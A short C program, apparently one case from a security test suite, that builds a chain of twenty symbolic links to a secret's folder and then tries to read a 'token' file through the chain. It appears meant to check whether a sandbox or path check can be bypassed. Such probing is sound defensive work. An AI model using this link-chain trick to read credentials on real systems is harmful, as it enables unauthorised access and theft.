/* Twenty links in a row, the last of them to the folder. */
#include "../attack.h"
int main(void)
{
	char from[16] = "", to[16];
	symlink(folder_of(SECRET), "l0");
	for (int i = 1; i < 20; i++) {
		snprintf(to, sizeof to, "l%d", i - 1);
		snprintf(from, sizeof from, "l%d", i);
		symlink(to, from);
	}
	return show_file(in(from, "token"));
}
